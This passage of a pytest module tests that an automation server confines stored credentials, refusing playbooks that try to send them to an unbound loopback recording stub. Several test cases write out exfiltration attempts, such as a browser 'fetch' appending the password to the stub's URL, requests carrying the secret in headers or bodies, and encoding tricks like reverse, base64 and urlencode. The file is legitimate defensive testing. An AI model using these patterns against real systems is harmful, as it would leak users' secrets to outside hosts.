"""Secret confinement against the real server (SECURITY.md §4.L rows 110-114 and 117, SR-20, SR-21).

Real parts only, one of each per module: ``itk serve --auth`` (every installed plugin, DEBUG logging)
as a subprocess, ``itk gateway-sim`` on a loopback port (the origin ``plant-gw`` is bound to), and a
recording stub (``other``, tests/api/recording_stub.py) on another loopback port that keeps every
request it gets and serves a login form. Chromium runs the browser and Perspective steps.

Besides the rows, a matrix generated from what the server ships: every shipped playbook with a
``type: credential`` parameter and every step parameter that accepts a secret (``writeOnly``), run by
the executor and the user roles, aimed at ``other``. After everything, the secrets appear in no
request ``other`` got, no API response, no WebSocket message, no byte of DATA_DIR (the SQLite file,
its WAL, artifacts) and no line of the server's DEBUG log.
"""

from __future__ import annotations

import base64
import json
import os
import re
import shutil
import subprocess
import sys
import threading
import time
import uuid
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_plus

import httpx
import pytest
import yaml
from recording_stub import RecordingStub

pytestmark = [pytest.mark.timeout(180), pytest.mark.browser]

ROOT = Path(__file__).resolve().parents[2]
SHIPPED = ROOT / "playbooks"
TERMINAL = {"completed", "failed", "cancelled", "interrupted"}

USERNAME = "admin"
SECRET = f"S3CR3T-{uuid.uuid4().hex}"  # plant-gw's password, also the sim's admin password
TOKEN_SECRET = f"T0KEN-{uuid.uuid4().hex}"
API_TOKEN = f"itk:{TOKEN_SECRET}"  # plant-gw's api_token, an Administrator token of the sim
SECRET_117 = f"S3CR3T-117-{uuid.uuid4().hex}"  # stub-bound's password (bound to the stub itself)
CRED = "plant-gw"
BINDING = f"credential '{CRED}'"
PW = f"{{{{ credential['{CRED}'].password }}}}"
TOKEN = f"{{{{ credential['{CRED}'].api_token }}}}"
FIELDS = {"password": PW, "api_token": TOKEN}

ITK = [
    sys.executable,
    "-c",
    "import sys; from ignition_toolbox.core.cli import main; sys.exit(main())",
]
# The server with the root logger at DEBUG (SECURITY.md §4.G row 68). ``itk``'s main() turns every
# root handler down to WARNING, so this one keeps DEBUG whatever it is set to; logs.install() adds
# the redacting filter to it as to any handler, so what is checked is what an operator would get.
# aiosqlite's DEBUG lines repeat each statement tortoise.db_client already logs at DEBUG, three
# times over: they stay at INFO to keep the server's CPU for the browsers.
ITK_DEBUG = [
    sys.executable,
    "-c",
    "import logging, sys\n"
    "class Debug(logging.StreamHandler):\n"
    "    def setLevel(self, level):\n"
    "        super().setLevel(logging.DEBUG)\n"
    "handler = Debug(sys.stderr)\n"
    "handler.setFormatter(logging.Formatter('%(levelname)s %(name)s: %(message)s'))\n"
    "logging.getLogger().addHandler(handler)\n"
    "logging.getLogger().setLevel(logging.DEBUG)\n"
    "logging.getLogger('aiosqlite').setLevel(logging.INFO)\n"
    "from ignition_toolbox.core.cli import main\n"
    "sys.exit(main())",
]


# -- the spellings of a secret that must not be anywhere ------------------------------------------


def _base64_cores(secret: bytes) -> list[bytes]:
    """The part of the secret's base64 that is the same wherever it sits in a longer text."""
    cores = []
    for offset in range(3):
        encoded = base64.b64encode(b"\0" * offset + secret)
        start = -(-offset * 4 // 3)
        end = (offset + len(secret)) * 4 // 3
        cores.append(encoded[start:end])
    return cores


def spellings(secret: str, username: str | None = None) -> dict[str, tuple[bytes, bool]]:
    """name -> (bytes, case_insensitive). Case-insensitive forms also cover upper/lower-casing."""
    raw = secret.encode()
    forms: dict[str, tuple[bytes, bool]] = {
        "raw (any case)": (raw, True),
        "reversed (any case)": (secret[::-1].encode(), True),
        "url-encoded": (quote(secret, safe="").encode(), True),
        "url-encoded (path-safe)": (quote(secret).encode(), True),
        "quote_plus": (quote_plus(secret).encode(), True),
        "json-escaped": (json.dumps(secret)[1:-1].encode(), True),
        "json \\u-escaped": ("".join(f"\\u{ord(c):04x}" for c in secret).encode(), True),
        "hex": (raw.hex().encode(), True),
        "utf-16-le": (secret.encode("utf-16-le"), True),
        "base64": (base64.b64encode(raw).rstrip(b"="), False),
        "base64url": (base64.urlsafe_b64encode(raw).rstrip(b"="), False),
        "base64 of reversed": (base64.b64encode(secret[::-1].encode()).rstrip(b"="), False),
        "base64 of upper": (base64.b64encode(secret.upper().encode()).rstrip(b"="), False),
    }
    for i, core in enumerate(_base64_cores(raw)):
        forms[f"base64 inside a longer text (alignment {i})"] = (core, False)
    if username is not None:
        forms["base64 of user:secret"] = (
            base64.b64encode(f"{username}:{secret}".encode()).rstrip(b"="),
            False,
        )
    return forms


PLANT_SECRETS = {
    "plant-gw password": spellings(SECRET, USERNAME),
    "plant-gw api_token": spellings(TOKEN_SECRET, "itk"),
}
ALL_SECRETS = {**PLANT_SECRETS, "stub-bound password": spellings(SECRET_117, "u117")}


def leaks(haystack: bytes, secrets: dict[str, dict[str, tuple[bytes, bool]]]) -> list[str]:
    lowered = haystack.lower()
    found = []
    for name, forms in secrets.items():
        for form, (needle, folded) in forms.items():
            if (needle.lower() in lowered) if folded else (needle in haystack):
                found.append(f"{name} ({form})")
    return found


def test_the_leak_detector_finds_every_spelling() -> None:
    """The negative results below mean something only if the detector sees what it looks for."""
    user_secret = f"{USERNAME}:{SECRET}".encode()
    spelled = [
        SECRET.encode(),
        SECRET.upper().encode(),
        SECRET[::-1].encode(),
        SECRET[::-1].upper().encode(),
        quote(SECRET, safe="").encode(),
        quote_plus(SECRET).encode(),
        json.dumps({"p": SECRET}).encode(),
        SECRET.encode("utf-16-le"),
        SECRET.encode().hex().upper().encode(),
        b"Authorization: Basic " + base64.b64encode(user_secret),
        *(base64.b64encode(pad + SECRET.encode() + b"tail") for pad in (b"", b"x", b"xy")),
        base64.urlsafe_b64encode(SECRET.encode()),
        base64.b64encode(SECRET[::-1].encode()),
    ]
    for text in spelled:
        assert leaks(b"before " + text + b" after", PLANT_SECRETS), text
    assert not leaks(b"S3CR3T- itk: T0KEN- " + SECRET[:-1].encode(), PLANT_SECRETS)


# -- processes --------------------------------------------------------------------------------


@dataclass
class Process:
    proc: subprocess.Popen[str]
    url: str
    lines: list[str] = field(default_factory=list)

    def output(self) -> str:
        return "".join(self.lines)

    def stop(self) -> None:
        if self.proc.poll() is None:
            self.proc.terminate()
            try:
                self.proc.wait(15)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait(5)


def _start(args: list[str], pattern: str, env: dict[str, str], timeout: float = 60) -> Process:
    proc = subprocess.Popen(
        args, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, env=env, cwd=ROOT
    )
    lines: list[str] = []
    found: list[str] = []
    ready = threading.Event()

    def pump() -> None:
        assert proc.stdout is not None
        for line in proc.stdout:
            lines.append(line)
            if not found and (match := re.search(pattern, line)):
                found.append(match.group(1))
                ready.set()
        ready.set()

    threading.Thread(target=pump, daemon=True).start()
    if not ready.wait(timeout) or not found:
        proc.kill()
        raise RuntimeError(f"{args[-8:]} did not start:\n{''.join(lines)[-4000:]}")
    return Process(proc, found[0], lines)


def _env(tmp: Path) -> dict[str, str]:
    return {
        **os.environ,
        "PYTHONUNBUFFERED": "1",
        "XDG_DATA_HOME": str(tmp / "xdg-data"),
        "XDG_CONFIG_HOME": str(tmp / "xdg-config"),
        # Every test polls; the per-key limit is not what this module is about.
        "ITK_RATE_LIMIT": "100000/minute",
    }


RESPONSES: list[bytes] = []  # every API response (status line, headers, body) of the module


class Api:
    """One principal's HTTP client; every response it gets is kept for the leak check."""

    def __init__(self, base: str, key: str) -> None:
        self.client = httpx.Client(
            base_url=base,
            headers={"X-API-Key": key},
            timeout=30,
            event_hooks={"response": [self._keep]},
        )

    @staticmethod
    def _keep(response: httpx.Response) -> None:
        response.read()
        RESPONSES.append(f"{response.status_code} {response.headers}\n".encode() + response.content)

    def get(self, url: str, **kw: Any) -> httpx.Response:
        return self.client.get(url, **kw)

    def post(self, url: str, **kw: Any) -> httpx.Response:
        return self.client.post(url, **kw)

    def put(self, url: str, **kw: Any) -> httpx.Response:
        return self.client.put(url, **kw)

    def save(self, path: str, playbook: dict[str, Any] | str) -> httpx.Response:
        text = playbook if isinstance(playbook, str) else yaml.safe_dump(playbook, sort_keys=False)
        return self.put(
            f"/api/playbooks/{path}", content=text, headers={"Content-Type": "application/yaml"}
        )

    def start(self, body: dict[str, Any]) -> httpx.Response:
        return self.post("/api/executions", json=body)

    def wait(self, execution_id: str, timeout: float = 60) -> dict[str, Any]:
        deadline = time.monotonic() + timeout
        body: dict[str, Any] = {}
        while time.monotonic() < deadline:
            body = self.get(f"/api/executions/{execution_id}").json()
            if body.get("status") in TERMINAL:
                return body
            time.sleep(0.15)
        raise AssertionError(f"execution never finished: {json.dumps(body)[-2000:]}")

    def run(self, body: dict[str, Any], timeout: float = 60) -> dict[str, Any]:
        started = self.start(body)
        assert started.status_code == 202, started.text
        return self.wait(started.json()["execution_id"], timeout)

    def close(self) -> None:
        self.client.close()


@dataclass
class World:
    server: Process
    sim: Process
    other: RecordingStub  # the recording stub: never bound to plant-gw
    far: RecordingStub  # a second stub, the host behind the userinfo trick of row 117
    data_dir: Path
    admin: Api
    roles: dict[str, Api]
    ws_messages: list[str]
    module_path: str

    @property
    def sim_origin(self) -> str:
        return self.sim.url.rstrip("/")

    @property
    def other_origin(self) -> str:
        return self.other.url


def _ws_listener(url: str, key: str, sink: list[str], stop: threading.Event) -> None:
    """Every WebSocket message a readonly viewer gets (readonly: updates, no frames)."""
    from websockets.sync.client import connect

    try:
        with connect(
            url.replace("http://", "ws://") + "/ws/executions",
            additional_headers={"X-API-Key": key},
            max_size=None,
            open_timeout=10,
        ) as socket:
            socket.send(json.dumps({"type": "subscribe"}))
            while not stop.is_set():
                try:
                    message = socket.recv(timeout=0.5)
                except TimeoutError:
                    continue
                sink.append(message if isinstance(message, str) else message.decode("latin-1"))
    except Exception as exc:  # the final check asserts the listener saw traffic
        sink.append(f"listener ended: {exc!r}")


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    from ignition_toolbox.gateway.sim import make_modl

    tmp = tmp_path_factory.mktemp("confinement")
    env = _env(tmp)
    library = tmp / "library"
    shutil.copytree(SHIPPED, library)
    other, far = RecordingStub(), RecordingStub()
    other.start()
    far.start()
    sim = _start(
        [
            *ITK,
            "gateway-sim",
            "--port",
            "0",
            "--admin-user",
            USERNAME,
            "--admin-password",
            SECRET,
            "--api-token",
            API_TOKEN,
            "--allow-unsigned-modules",
            "--restart-seconds",
            "2",
            "--grace-seconds",
            "0.1",
        ],
        r"gateway-sim: listening on (http://\S+)",
        env,
    )
    data_dir = tmp / "data"
    server = _start(
        [
            *ITK_DEBUG,
            "serve",
            "--auth",
            "--host",
            "127.0.0.1",
            "--port",
            "0",
            "--data-dir",
            str(data_dir),
            "--secret-key-file",
            str(tmp / "keys" / "secret.key"),
            "--playbooks-dir",
            str(library),
        ],
        r"itk: listening on (http://\S+)",
        env,
    )
    apis: list[Api] = []
    stop = threading.Event()
    listener: threading.Thread | None = None
    try:
        # The key's line may share its end with a DEBUG line written to stderr meanwhile.
        line = next(line for line in server.lines if "bootstrap admin key" in line)
        admin_key = re.search(r"\(shown once\): (itk_[0-9A-Za-z]+)", line)
        assert admin_key is not None, line
        admin = Api(server.url, admin_key.group(1))
        apis.append(admin)
        keys = {}
        for role in ("readonly", "executor", "user"):
            created = admin.post("/api/keys", json={"name": f"confine-{role}", "role": role})
            assert created.status_code == 201, created.text
            keys[role] = created.json()["key"]
        roles = {role: Api(server.url, key) for role, key in keys.items()}
        apis += roles.values()
        user = roles["user"]
        created = user.post(
            "/api/credentials",
            json={
                "name": CRED,
                "username": USERNAME,
                "password": SECRET,
                "api_token": API_TOKEN,
                "gateway_url": sim.url,
                "description": "bound to the simulated gateway only",
            },
        )
        assert created.status_code == 201, created.text
        created = user.post(
            "/api/credentials",
            json={
                "name": "stub-bound",
                "username": "u117",
                "password": SECRET_117,
                "gateway_url": other.url,
            },
        )
        assert created.status_code == 201, created.text
        uploaded = admin.post(  # uploads are an admin's (modules:upload)
            "/api/modules?fileName=confine-1.0.0.modl",
            content=make_modl("com.example.confine", "Confine Module", "1.0.0"),
        )
        assert uploaded.status_code == 201, uploaded.text
        ws_messages: list[str] = []
        listener = threading.Thread(
            target=_ws_listener,
            args=(server.url, keys["readonly"], ws_messages, stop),
            daemon=True,
        )
        listener.start()
        yield World(
            server,
            sim,
            other,
            far,
            data_dir,
            admin,
            roles,
            ws_messages,
            uploaded.json()["path"],
        )
    finally:
        stop.set()
        if listener is not None:
            listener.join(5)
        for api in apis:
            api.close()
        server.stop()
        sim.stop()
        other.stop()
        far.stop()


# -- helpers ----------------------------------------------------------------------------------


def assert_other_got_nothing(world: World, marks: tuple[int, int], what: str = "") -> None:
    for stub, mark in zip((world.other, world.far), marks, strict=True):
        found = leaks(stub.raw_since(mark), PLANT_SECRETS)
        assert not found, f"{what}: {stub.url} received {found}"


def marks(world: World) -> tuple[int, int]:
    return world.other.mark(), world.far.mark()


def errors_of(detail: dict[str, Any]) -> list[dict[str, Any]]:
    found = [s["error"] for s in detail.get("step_results", []) if s.get("error")]
    if detail.get("error"):
        found.append(detail["error"])
    return found


def failed_step(detail: dict[str, Any]) -> dict[str, Any]:
    failed = [s for s in detail["step_results"] if s["status"] == "failed"]
    assert failed, f"no failed step: {json.dumps(detail)[-3000:]}"
    first: dict[str, Any] = failed[0]
    return first


def binding_messages(detail: dict[str, Any], credential: str = CRED) -> list[str]:
    return [
        e.get("message", "")
        for e in errors_of(detail)
        if f"credential '{credential}'" in e.get("message", "")
    ]


def assert_refused_save(api: Api, path: str, playbook: dict[str, Any]) -> dict[str, Any]:
    response = api.save(path, playbook)
    assert response.status_code == 400, (response.status_code, response.text)
    body: dict[str, Any] = response.json()
    assert body["detail"]["error"] == "validation_error", body
    assert api.get(f"/api/playbooks/{path}").status_code == 404, "a refused save left a file"
    return body


def step(step_id: str, kind: str, **parameters: Any) -> dict[str, Any]:
    return {"id": step_id, "type": kind, "parameters": parameters}


def navigate(url: str) -> dict[str, Any]:
    return step("open", "browser.navigate", url=url, timeout=20)


def submit() -> dict[str, Any]:
    return step("submit", "browser.click", selector="button[type=submit]", timeout=5)


def playbook(name: str, steps: list[dict[str, Any]], **extra: Any) -> dict[str, Any]:
    return {"name": name, "version": "1.0", **extra, "steps": steps}


_counter = iter(range(1_000_000))


def unique(stem: str) -> str:
    return f"confine/{re.sub(r'[^A-Za-z0-9_-]+', '_', stem)[:60]}_{next(_counter)}.yaml"


# -- generated matrix inputs --------------------------------------------------------------------


def _shipped_credential_playbooks() -> list[str]:
    found = []
    for path in sorted(SHIPPED.rglob("*.y*ml")):
        data = yaml.safe_load(path.read_text())
        if any(p.get("type") == "credential" for p in data.get("parameters") or []):
            found.append(path.relative_to(SHIPPED).as_posix())
    return found


def _write_only_paths(schema: Any, path: tuple[str, ...] = ()) -> Iterator[tuple[str, ...]]:
    if not isinstance(schema, dict):
        return
    if schema.get("writeOnly") is True:
        yield path
    for key, sub in (schema.get("properties") or {}).items():
        yield from _write_only_paths(sub, (*path, key))
    if isinstance(schema.get("additionalProperties"), dict):
        yield from _write_only_paths(schema["additionalProperties"], (*path, "*"))
    if isinstance(schema.get("items"), dict):
        yield from _write_only_paths(schema["items"], (*path, "[]"))


def sinks_of(step_types: list[dict[str, Any]]) -> set[str]:
    return {
        f"{t['name']}:{'.'.join(p)}"
        for t in step_types
        for p in _write_only_paths(t.get("parameters"))
    }


def _installed_sinks() -> list[str]:
    from ignition_toolbox.core import PluginManager

    types = [t.describe() for t in PluginManager().step_types.values()]
    return sorted(sinks_of(types))


CREDENTIAL_PLAYBOOKS = _shipped_credential_playbooks()
SINKS = _installed_sinks()
ROLES = ("executor", "user")


def test_the_matrix_covers_the_library_and_every_secret_sink(world: World) -> None:
    """The generated cases are what the running server reports, so a new shipped playbook with a
    credential parameter or a new step parameter accepting secrets gets a case (or fails here)."""
    x = world.roles["executor"]
    listed = x.get("/api/playbooks").json()["playbooks"]
    with_credentials = []
    for entry in listed:
        if entry.get("writable") or not entry.get("valid"):
            continue
        detail = x.get(f"/api/playbooks/{entry['path']}").json()
        if any(p["type"] == "credential" for p in detail.get("parameters", [])):
            with_credentials.append(entry["path"])
    assert sorted(with_credentials) == CREDENTIAL_PLAYBOOKS
    assert CREDENTIAL_PLAYBOOKS, "the library ships no playbook with a credential parameter?"
    served = sinks_of(x.get("/api/step-types").json()["step_types"])
    assert served == set(SINKS)
    assert set(SINKS) <= set(SINK_BUILDERS), (
        f"no exfiltration case for {set(SINKS) - set(SINK_BUILDERS)}"
    )


# -- row 110: the shipped browser login playbook aimed at `other` --------------------------------


def test_row110_shipped_login_playbook_refuses_to_type_the_password_into_other(
    world: World,
) -> None:
    before = marks(world)
    x = world.roles["executor"]
    started = x.start(
        {
            "playbook_path": "browser/login_form_check.yaml",
            "parameters": {
                "login": CRED,
                "login_url": f"{world.other_origin}/row110/login",
                "success_text": "Welcome",
                "timeout": 5,
            },
        }
    )
    assert started.status_code == 202, started.text
    execution_id = started.json()["execution_id"]
    detail = x.wait(execution_id)
    assert detail["status"] == "failed", detail
    steps = {s["step_id"]: s for s in detail["step_results"]}
    assert steps["open"]["status"] == "completed"
    assert steps["username"]["status"] == "completed"  # a username is no secret
    password = steps["password"]
    assert password["status"] == "failed", password
    error = password["error"]
    assert error["code"] == "validation_error", error
    assert BINDING in error["message"], error
    assert world.sim_origin in error["message"] and world.other_origin in error["message"], error
    assert "submit" not in steps or steps["submit"]["status"] != "completed"
    reached = [r for r in world.other.since(before[0]) if r.path.startswith("/row110/")]
    assert reached, "the login page on `other` was never opened"
    assert not [r for r in reached if r.method == "POST"], "the form was sent"
    assert_other_got_nothing(world, before, "row 110")
    events = world.admin.get("/api/audit", params={"action": "secret.refused"}).json()["events"]
    mine = [e for e in events if e["target"] == execution_id]
    assert len(mine) == 1, f"no secret.refused audit row for the refusal: {events[:3]}"
    assert mine[0]["outcome"] == "failure"
    assert mine[0]["details"]["credential"] == CRED
    assert mine[0]["details"]["refused_origin"] == world.other_origin
    assert mine[0]["details"]["step_id"] == "password"


# -- row 111: a gateway step naming plant-gw with gateway_url: other ------------------------------

GATEWAY_LEAKS = {
    "request-token": ("gateway.request", {"path": "/data/api/v1/gateway-info", "auth": "token"}),
    "request-session": (
        "gateway.request",
        {"path": "/data/api/v1/gateway-info", "auth": "session"},
    ),
    "list-modules": ("gateway.list_modules", {}),
    "info-api-always": ("gateway.info", {"api": "always"}),
    "backup": ("gateway.backup", {}),
}


@pytest.mark.parametrize("how", ["step-names-credential", "execution-credential"])
@pytest.mark.parametrize("leak", sorted(GATEWAY_LEAKS))
def test_row111_gateway_steps_withhold_plant_gw_from_other(
    world: World, leak: str, how: str
) -> None:
    kind, parameters = GATEWAY_LEAKS[leak]
    named = {"credential": CRED} if how == "step-names-credential" else {}
    path = unique(f"row111_{leak}_{how}")
    saved = world.roles["user"].save(
        path,
        playbook(
            f"Row 111 {leak} {how}",
            [
                # The bound gateway may be called, token and all: proves the credential works.
                step("bound", "gateway.info", api="always", gateway_url=world.sim.url, **named),
                step("leak", kind, gateway_url=world.other_origin, **named, **parameters),
            ],
        ),
    )
    assert saved.status_code in (200, 201), saved.text
    before = marks(world)
    body: dict[str, Any] = {"playbook_path": path}
    if how == "execution-credential":
        body["credential_name"] = CRED
    detail = world.roles["executor"].run(body)
    assert detail["status"] == "failed", detail
    steps = {s["step_id"]: s for s in detail["step_results"]}
    assert steps["bound"]["status"] == "completed", steps["bound"]
    assert steps["bound"]["output"]["gateway_info"], "the token did not work on the bound sim"
    error = steps["leak"]["error"]
    assert steps["leak"]["status"] == "failed" and error["code"] == "validation_error", error
    assert BINDING in error["message"], error
    assert world.sim_origin in error["message"] and world.other_origin in error["message"], error
    assert_other_got_nothing(world, before, f"row 111 {leak} {how}")
    for record in world.other.since(before[0]):
        assert "x-ignition-api-token" not in record.headers.lower(), record
        assert "authorization" not in record.headers.lower(), record
    events = world.admin.get("/api/audit", params={"action": "secret.refused"}).json()["events"]
    audited = [e["details"] for e in events if e["target"] == detail["execution_id"]]
    assert audited == [
        {"credential": CRED, "refused_origin": world.other_origin, "step_id": "leak"}
    ], audited


# -- row 112: a secret in a parameter that does not accept secrets --------------------------------


def _row112_cases(other: str) -> dict[str, dict[str, Any]]:
    cases: dict[str, dict[str, Any]] = {}
    for field_name, ref in FIELDS.items():
        inner = ref[2:-2].strip()
        cases |= {
            f"navigate-url-{field_name}": step("s", "browser.navigate", url=f"{other}/x?p={ref}"),
            f"navigate-url-whole-{field_name}": step("s", "browser.navigate", url=ref),
            f"evaluate-{field_name}": step(
                "s", "browser.evaluate", expression=f"fetch('{other}/?p=' + '{ref}')"
            ),
            f"evaluate-whole-{field_name}": step("s", "browser.evaluate", expression=ref),
            f"log-{field_name}": step("s", "utility.log", message=f"p={ref}"),
            f"log-whole-{field_name}": step("s", "utility.log", message=ref),
            f"log-dotted-{field_name}": step(
                "s", "utility.log", message=f"{{{{ credential.{CRED}.{field_name} }}}}"
            ),
            f"set-variable-{field_name}": step("s", "utility.set_variable", name="v", value=ref),
            f"set-variable-list-{field_name}": step(
                "s", "utility.set_variable", name="v", value=[ref]
            ),
            f"request-body-{field_name}": step(
                "s", "gateway.request", gateway_url=other, path="/x", method="POST", body=ref
            ),
            f"request-headers-{field_name}": step(
                "s", "gateway.request", gateway_url=other, path="/x", headers={"X-P": ref}
            ),
            f"request-query-{field_name}": step(
                "s", "gateway.request", gateway_url=other, path="/x", query={"p": ref}
            ),
            f"request-json-{field_name}": step(
                "s", "gateway.request", gateway_url=other, path="/x", method="POST", json={"p": ref}
            ),
            f"request-path-{field_name}": step(
                "s", "gateway.request", gateway_url=other, path=f"/x/{ref}"
            ),
            f"fill-selector-{field_name}": step(
                "s", "browser.fill", selector=f"input[value='{ref}']", value="x"
            ),
            f"assert-{field_name}": step(
                "s", "utility.assert", condition=f"{{{{ {inner} == 'x' }}}}"
            ),
        }
    return cases


ROW112 = sorted(_row112_cases("http://127.0.0.1:9"))


@pytest.mark.parametrize("case", ROW112)
def test_row112_secret_in_a_parameter_that_takes_none_is_refused_at_save(
    world: World, case: str
) -> None:
    sink = _row112_cases(world.other_origin)[case]
    doc = playbook(f"Row 112 {case}", [navigate(f"{world.other_origin}/x"), sink])
    body = assert_refused_save(world.roles["user"], unique(f"row112_{case}"), doc)
    assert (
        "secret" in body["detail"]["message"].lower()
        or "secret" in json.dumps(body["detail"].get("details")).lower()
    ), body


# -- row 113: transformed secrets ----------------------------------------------------------------

TRANSFORMS = {
    "reverse": "{{ REF | reverse }}",
    "upper": "{{ REF | upper }}",
    "slice": "{{ REF[1:] }}",
    "index": "{{ REF[0] }}",
    "list": "{{ REF | list }}",
    "join": "{{ REF | list | join('.') }}",
    "concat": "{{ REF ~ '' }}",
    "plus": "{{ REF + '' }}",
    "b64encode": "{{ REF | b64encode }}",
    "startswith": "{{ REF.startswith('a') }}",
    "equals": "{{ REF == 'x' }}",
    "in": "{{ 'a' in REF }}",
    "string": "{{ REF | string }}",
    "urlencode": "{{ REF | urlencode }}",
    "tojson": "{{ REF | tojson }}",
    "replace": "{{ REF | replace('S', 's') }}",
    "format": "{{ '%s' | format(REF) }}",
    "length": "{{ REF | length }}",
    "interpolated": "x{{ REF }}",
    "twice": "{{ REF }}{{ REF }}",
    "default": "{{ REF | default('x') }}",
    "ternary": "{{ REF if true else 'x' }}",
}


@pytest.mark.parametrize("sink", ["browser.fill", "utility.log"])
@pytest.mark.parametrize("transform", sorted(TRANSFORMS))
def test_row113_transformed_secret_is_refused_at_save(
    world: World, transform: str, sink: str
) -> None:
    """Even a parameter that accepts a secret takes it only whole."""
    template = TRANSFORMS[transform].replace("REF", f"credential['{CRED}'].password")
    if sink == "browser.fill":
        use = step("s", "browser.fill", selector="input[type=password]", value=template)
    else:
        use = step("s", "utility.log", message=template)
    doc = playbook(f"Row 113 {transform}", [navigate(f"{world.other_origin}/x"), use])
    assert_refused_save(world.roles["user"], unique(f"row113_{transform}_{sink}"), doc)


RUNTIME_REF = "credential[parameter.c]['pass' ~ 'word']"
RUNTIME_TOKEN = "credential[parameter.c]['api_' ~ 'token']"
# name -> (steps, must_fail). The references are built at run time, so the save cannot see them.
RUNTIME_CASES: dict[str, tuple[list[dict[str, Any]], bool]] = {
    "log-reverse": ([step("s", "utility.log", message=f"{{{{ {RUNTIME_REF} | reverse }}}}")], True),
    "log-upper": ([step("s", "utility.log", message=f"{{{{ {RUNTIME_REF} | upper }}}}")], True),
    "log-slice": ([step("s", "utility.log", message=f"{{{{ {RUNTIME_REF}[1:] }}}}")], True),
    "log-join": (
        [step("s", "utility.log", message=f"{{{{ {RUNTIME_REF} | list | join('.') }}}}")],
        True,
    ),
    "log-concat": ([step("s", "utility.log", message=f"{{{{ {RUNTIME_REF} ~ '' }}}}")], True),
    "log-string": ([step("s", "utility.log", message=f"{{{{ {RUNTIME_REF} | string }}}}")], True),
    "log-urlencode": (
        [step("s", "utility.log", message=f"{{{{ {RUNTIME_REF} | urlencode }}}}")],
        True,
    ),
    "log-tojson": ([step("s", "utility.log", message=f"{{{{ {RUNTIME_REF} | tojson }}}}")], True),
    "log-startswith": (
        [step("s", "utility.log", message=f"{{{{ {RUNTIME_REF}.startswith('S') }}}}")],
        True,
    ),
    "log-equals": ([step("s", "utility.log", message=f"{{{{ {RUNTIME_REF} == 'x' }}}}")], True),
    "log-whole": ([step("s", "utility.log", message=f"{{{{ {RUNTIME_REF} }}}}")], True),
    "log-token-reverse": (
        [step("s", "utility.log", message=f"{{{{ {RUNTIME_TOKEN} | reverse }}}}")],
        True,
    ),
    "set-variable-then-log": (
        [
            step("s", "utility.set_variable", name="v", value=f"{{{{ {RUNTIME_REF} }}}}"),
            step("t", "utility.log", message="{{ variable.v }}"),
        ],
        True,
    ),
    "when-length": (
        [
            {
                "id": "s",
                "type": "utility.log",
                "when": f"{{{{ {RUNTIME_REF} | length > 3 }}}}",
                "parameters": {"message": "long"},
            }
        ],
        True,
    ),
    "loop": (
        [
            {
                "id": "s",
                "type": "utility.log",
                "loop": f"{{{{ {RUNTIME_REF} }}}}",
                "parameters": {"message": "{{ item }}"},
            }
        ],
        True,
    ),
    "assert-equals": (
        [step("s", "utility.assert", condition=f"{{{{ {RUNTIME_REF} == 'x' }}}}")],
        True,
    ),
    "request-header-to-other": (
        [
            step(
                "s",
                "gateway.request",
                gateway_url="OTHER",
                path="/x",
                headers={"X-P": f"{{{{ {RUNTIME_REF} }}}}"},
            )
        ],
        True,
    ),
    "request-body-to-other": (
        [
            step(
                "s",
                "gateway.request",
                gateway_url="OTHER",
                path="/x",
                method="POST",
                auth="none",
                body=f"{{{{ {RUNTIME_REF} }}}}",
            )
        ],
        True,
    ),
    "request-query-to-other": (
        [
            step(
                "s",
                "gateway.request",
                gateway_url="OTHER",
                path="/x",
                auth="none",
                query={"p": f"{{{{ {RUNTIME_TOKEN} }}}}"},
            )
        ],
        True,
    ),
    "navigate-to-other": (
        [step("s", "browser.navigate", url=f"{{{{ 'OTHER/x?p=' ~ {RUNTIME_REF} }}}}", timeout=5)],
        True,
    ),
    # Whole-credential views: may render (the secrets show as opaque markers) but leak nothing.
    "log-credential-dict": (
        [step("s", "utility.log", message="{{ credential[parameter.c] }}")],
        False,
    ),
    "log-credential-values": (
        [step("s", "utility.log", message="{{ credential[parameter.c].values() | list }}")],
        False,
    ),
    "log-credential-tojson": (
        [step("s", "utility.log", message="{{ credential[parameter.c] | tojson }}")],
        False,
    ),
    "log-credential-dictsort": (
        [step("s", "utility.log", message="{{ credential[parameter.c] | dictsort }}")],
        False,
    ),
}


def _fill_other(value: Any, other: str) -> Any:
    if isinstance(value, str):
        return value.replace("OTHER", other)
    if isinstance(value, dict):
        return {k: _fill_other(v, other) for k, v in value.items()}
    if isinstance(value, list):
        return [_fill_other(v, other) for v in value]
    return value


@pytest.mark.parametrize("case", sorted(RUNTIME_CASES))
def test_row113_runtime_built_reference_fails_the_step_and_leaks_nothing(
    world: World, case: str
) -> None:
    steps, must_fail = RUNTIME_CASES[case]
    doc = playbook(
        f"Row 113 run time {case}",
        _fill_other(steps, world.other_origin),
        parameters=[{"name": "c", "type": "credential", "required": True}],
    )
    path = unique(f"row113rt_{case}")
    saved = world.roles["user"].save(path, doc)
    if saved.status_code == 400:  # the validator saw through it: refused even earlier
        assert saved.json()["detail"]["error"] == "validation_error", saved.text
        return
    assert saved.status_code in (200, 201), saved.text
    before = marks(world)
    mark = len(RESPONSES)
    detail = world.roles["executor"].run({"playbook_path": path, "parameters": {"c": CRED}})
    if must_fail:
        assert detail["status"] == "failed", json.dumps(detail)[-3000:]
        error = failed_step(detail)["error"]
        assert error["code"] == "validation_error", error
        assert "secret" in error["message"].lower(), error
    else:
        assert detail["status"] in ("completed", "failed"), detail
    found = leaks(b"\n".join(RESPONSES[mark:]), ALL_SECRETS)
    assert not found, f"{case}: the API answered {found}"
    assert_other_got_nothing(world, before, f"row 113 {case}")


# -- row 114: secret-driven control flow ------------------------------------------------------------

ROW114: dict[str, dict[str, Any]] = {
    "when-length": {"when": f"{{{{ credential['{CRED}'].password | length > 3 }}}}"},
    "when-bare": {"when": f"credential['{CRED}'].password | length > 3"},
    "when-equals": {"when": f"{{{{ credential['{CRED}'].password == 'x' }}}}"},
    "when-truthy": {"when": f"{{{{ credential['{CRED}'].api_token }}}}"},
    "loop-whole": {"loop": f"{{{{ credential['{CRED}'].password }}}}"},
    "loop-list": {"loop": f"{{{{ credential['{CRED}'].password | list }}}}"},
    "loop-item": {"loop": [f"{{{{ credential['{CRED}'].password }}}}"]},
    "timeout-length": {"timeout": f"{{{{ credential['{CRED}'].password | length }}}}"},
}


@pytest.mark.parametrize("case", sorted(ROW114))
